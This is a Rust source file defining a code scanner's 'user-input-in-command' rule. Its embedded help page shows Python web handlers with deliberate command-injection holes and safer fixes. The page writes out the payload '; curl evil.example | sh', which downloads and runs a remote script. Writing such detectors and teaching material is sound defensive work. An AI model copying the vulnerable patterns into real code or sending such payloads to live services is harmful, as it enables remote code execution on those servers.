//! `user-input-in-command`: a value of the request becomes part of a command.

use model::{Persona, Severity, Weakness};

use super::flow::Says;
use super::{Check, Rule, flow};
use crate::flows::Use;

pub(super) const RULE: Rule = Rule {
    name: "user-input-in-command",
    weakness: Weakness::CommandInjection,
    severity: Severity::Critical,
    persona: Persona::Regular,
    summary: "a value of the request becomes part of a command",
    page: PAGE,
    checks: &[Check::Flow(Use::Command, Says { becomes: "becomes part of a command", fix: FIX, counts: flow::of_no_model, judged: flow::as_it_is })],
};

const PAGE: &str = r#"## What it does

Follows what a client sends to commands that a shell reads (`os.system`, `shell=True`, `sh -c`, `exec_command` over SSH), and to the name of the program that
is run. What is only one argument in a list is told to auditors: many programs take options there (`--output=...`).

Auditors are told, too, with low severity, where a variable of the environment becomes a part of what a shell reads, or what a command of the program was
given (`sys.argv`, `argparse`, `click`, `typer`, `input()`) runs. A program that a variable names (`$EDITOR`) is meant.

## Why is this bad?

Whoever sends `; curl evil.example | sh` runs programs with the rights of the application.

## Example

```python bad
import subprocess

from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping(host: str):
    return subprocess.check_output(f"ping -c 1 {host}", shell=True)  # <- here
```

```python bad
import os

from flask import Flask, request

app = Flask(__name__)


def convert(name):
    os.system("convert " + name + " out.png")  # <- here


@app.post("/convert")
def start():
    convert(request.form["name"])
    return {"ok": True}
```

```python bad
# file: manage.py
import os
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")

# file: shop/settings.py
ROOT_URLCONF = "shop.urls"

# file: shop/urls.py
from django.urls import path
from shop.views import lookup
urlpatterns = [path("lookup", lookup)]

# file: shop/views.py
import os
from django.http import JsonResponse

def lookup(request):
    found = os.popen("nslookup %s" % request.GET["domain"]).read()  # <- here
    return JsonResponse({"found": found})
```

Use instead:

```python good
import ipaddress
import subprocess

from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping(host: ipaddress.IPv4Address):
    return subprocess.check_output(["ping", "-c", "1", str(host)])
```

```python good
import shlex
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.post("/convert")
def start():
    subprocess.run(f"convert {shlex.quote(request.form['name'])} out.png", shell=True)
    return {"ok": True}
```

## Fix

Give the program and its arguments as a list, without a shell, and `--` before what a client chose. Where a shell is needed, `shlex.quote` each value.
"#;

const FIX: &str = "run the program without a shell: a list of arguments, with `--` before what the client chose; or `shlex.quote` the value";
